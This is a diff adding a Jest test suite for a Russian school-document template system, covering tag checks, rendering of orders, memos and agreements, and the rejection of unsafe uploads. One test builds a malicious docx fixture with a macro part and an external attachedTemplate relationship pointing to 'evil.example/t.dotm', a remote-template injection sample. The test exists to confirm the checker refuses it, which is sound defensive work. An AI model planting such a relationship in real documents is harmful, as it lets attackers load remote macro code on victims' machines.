@@ -1,0 +1,169 @@
+import { describe, expect, it } from '@jest/globals';
+import mammoth from 'mammoth';
+import PizZip from 'pizzip';
+import { checkTemplate, spelling } from './check-template.ts';
+import type { DocumentField } from './field.ts';
+import { documentKind, documentKinds } from './kinds/index.ts';
+import { body, line, pack } from './ready-made.ts';
+import { renderDocument } from './render-document.ts';
+
+const textOf = async (docx: Buffer): Promise<string> =>
+  (await mammoth.extractRawText({ buffer: docx })).value;
+const fields = documentKind('partner-order')!.fields;
+const templateOf = (...lines: string[]): Promise<Buffer> =>
+  pack(
+    'Шаблон',
+    lines.map((one) => line(one)),
+  );
+
+describe('a ready-made template', () => {
+  it.each(documentKinds.map(({ id, title }) => [title, id] as const))(
+    '«%s» passes its own check',
+    async (_title, id) => {
+      const { template, fields: known } = documentKind(id)!;
+      const { tags, problems } = await checkTemplate(await template(), known);
+      expect(problems).toEqual([]);
+      expect(tags).toContain('{@qr}');
+      // Every field that a kind names is of use in its own template, but those of orders alone.
+      const used = tags.map((tag) =>
+        tag
+          .replace(/[{}#@]/g, '')
+          .split('|')[0]!
+          .trim(),
+      );
+      const unused = (list: readonly DocumentField[]): string[] =>
+        list.flatMap((field) => [
+          ...(used.includes(field.name) ? [] : [field.name]),
+          ...unused(field.of ?? []),
+        ]);
+      expect(unused(known.slice(12)).filter((name) => !['с', 'по', 'год', 'особое'].includes(name))).toEqual(
+        [],
+      );
+    },
+  );
+});
+
+describe('the check of a template', () => {
+  it('takes tags with forms, lists and drawings where they belong', async () => {
+    const content = await templateOf(
+      '{подписант.должность|дательный} {подписант.имя | инициалы}',
+      '{#пары}{номер}. {школа} — {партнёр}, {организация}{/пары}',
+      '{@qr}',
+    );
+    expect((await checkTemplate(content, fields)).problems).toEqual([]);
+  });
+
+  it('names unknown fields, likely slips and wrong forms', async () => {
+    const content = await templateOf(
+      '{номр} {подписант.имя | звательный} {пары} {#организация}{/организация} {партнёр}',
+    );
+    const { problems } = await checkTemplate(content, fields);
+    expect(problems.map(({ tag, message }) => [tag, message])).toEqual([
+      ['{номр}', 'Поля «номр» здесь нет. Возможно, имелось в виду {номер}.'],
+      ['{подписант.имя | звательный}', expect.stringContaining('Формы «звательный» нет')],
+      ['{пары}', 'Поле «пары» пишется так: {#пары}…{/пары}.'],
+      ['{#организация}', 'Поле «организация» пишется так: {организация}.'],
+      ['{партнёр}', expect.stringContaining('Поля «партнёр» здесь нет')],
+    ]);
+  });
+
+  it.each([
+    ['{номер', 'нет закрывающей скобки'],
+    ['номер}', 'нет открывающей скобки'],
+    ['{#пары} {номер}', 'список не закончен'],
+    ['{номер}{/пары}', 'нет начала'],
+  ])('says in words what is wrong with «%s»', async (written, words) => {
+    const { problems } = await checkTemplate(await templateOf(written), fields);
+    expect(problems[0]!.message).toContain(words);
+  });
+
+  it('refuses what is no docx, macros and parts from elsewhere', async () => {
+    const first = async (content: Buffer): Promise<string> =>
+      (await checkTemplate(content, fields)).problems[0]!.message;
+    expect(await first(Buffer.from('%PDF-1.4'))).toContain('не документ Word');
+    const zip = new PizZip(await templateOf('{номер}'));
+    zip.file('word/vbaProject.bin', 'x');
+    expect(await first(zip.generate({ type: 'nodebuffer' }) as Buffer)).toContain('макросы');
+    const other = new PizZip(await templateOf('{номер}'));
+    other.file(
+      'word/_rels/settings.xml.rels',
+      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    );
+    expect(await first(other.generate({ type: 'nodebuffer' }) as Buffer)).toContain('внешний файл');
+    expect(await first(Buffer.alloc(5_000_001))).toContain('больше 5 МБ');
+  });
+});
+
+describe('a document', () => {
+  const values = {
+    организация: 'Управление образования',
+    номер: '338',
+    дата: '20 апреля 2023 г.',
+    заголовок: 'О назначении <школ-партнёров> & прочем',
+    подписант: { должность: 'начальник управления', имя: 'Покусаева Надежда Ивановна' },
+    ссылка: 'https://opora.example/verify/abc',
+    пары: [
+      { номер: '1', школа: 'Мамаканская СОШ', партнёр: 'СОШ № 3', район: 'Бодайбинский район' },
+      { номер: '2', школа: 'Артёмовская СОШ', партнёр: 'Тутурская СОШ', район: 'Жигаловский район' },
+    ],
+  };
+
+  it('comes out of the template with its rows, its signature and blanks for what is not known', async () => {
+    const docx = await renderDocument(await documentKind('partner-order')!.template(), values, {
+      qr: { kind: 'qr', text: 'https://opora.example/verify/abc' },
+    });
+    const text = await textOf(docx);
+    expect(text).toContain('УПРАВЛЕНИЕ ОБРАЗОВАНИЯ');
+    expect(text).toContain('О назначении <школ-партнёров> & прочем');
+    expect(text).toContain('№ 338');
+    expect(text).toMatch(/Начальник управления\s+Н\.И\. Покусаева/);
+    expect(text).toMatch(/1\s+Мамаканская СОШ\s+СОШ № 3\s+Бодайбинский район\s+2\s+Артёмовская СОШ/);
+    expect(text).toContain('__________');
+    expect(text).not.toMatch(/[{}]/);
+    const zip = new PizZip(docx);
+    const [picture] = zip.file(/word\/media\/opora-qr-\d+\.png/);
+    expect(picture!.asUint8Array().subarray(1, 4)).toEqual(new Uint8Array([0x50, 0x4e, 0x47]));
+    expect(zip.file('[Content_Types].xml')!.asText()).toContain('Extension="png"');
+    expect(await checkTemplate(docx, [])).toEqual({ tags: [], problems: [] });
+  });
+
+  it('of a school has its chart as a part of Word and its names in the right case', async () => {
+    const memo = await renderDocument(
+      await documentKind('analytic-memo')!.template(),
+      {
+        школа: { название: 'СОШ № 1' },
+        факторы: [{ номер: '1', название: 'Оснащение', значимость: 'высокая', основание: 'самооценка' }],
+      },
+      {
+        диаграмма: {
+          kind: 'bars',
+          chart: { title: 'Факторы', most: 3, bars: [{ name: '1 & 2', value: 3 }] },
+        },
+      },
+    );
+    const zip = new PizZip(memo);
+    expect(zip.file('word/charts/opora-chart-1.xml')!.asText()).toContain('<c:v>1 &amp; 2</c:v>');
+    expect(zip.file('word/_rels/document.xml.rels')!.asText()).toContain('Target="charts/opora-chart-1.xml"');
+    expect(await textOf(memo)).toMatch(/Оснащение\s+высокая\s+самооценка/);
+
+    const agreement = await renderDocument(await documentKind('network-agreement')!.template(), {
+      школа: { название: 'СОШ № 1', директор: { должность: 'директор', имя: 'Ковалёв Пётр Сергеевич' } },
+      партнёр: { название: 'СОШ № 3', директор: { должность: 'директор', имя: 'Шевчук Анна Львовна' } },
+    });
+    expect(await textOf(agreement)).toContain(
+      'в лице директора Ковалёва Петра Сергеевича и СОШ № 3 (далее — Партнёр) в лице директора Шевчук Анны Львовны',
+    );
+  });
+
+  it('leaves no row where a list is empty', async () => {
+    const docx = await renderDocument(
+      await pack('Шаблон', [line('{#пары}'), body('{номер}. {школа}'), line('{/пары}'), line('конец')]),
+      { пары: [] },
+    );
+    expect((await textOf(docx)).trim()).toBe('конец');
+  });
+
+  it('spells its fields as they are written in Word', () => {
+    expect(fields.map(spelling)).toEqual(expect.arrayContaining(['{номер}', '{@qr}', '{#пары}…{/пары}']));
+  });
+});
